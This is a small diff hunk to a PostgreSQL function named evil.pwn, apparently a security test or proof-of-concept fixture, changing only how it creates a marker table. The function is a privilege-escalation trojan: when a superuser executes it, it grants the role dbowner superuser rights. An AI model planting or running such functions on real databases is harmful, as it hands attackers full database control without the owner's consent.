@@ -109,7 +109,7 @@ CREATE FUNCTION evil.pwn() RETURNS boolean LANGUAGE plpgsql AS $$
 BEGIN
   IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
     EXECUTE 'ALTER ROLE dbowner SUPERUSER';
-    EXECUTE 'CREATE TABLE public.pwned (who text)';
+    EXECUTE 'CREATE TABLE IF NOT EXISTS public.pwned (who text)';
   END IF;
   RETURN true;
 END $$;
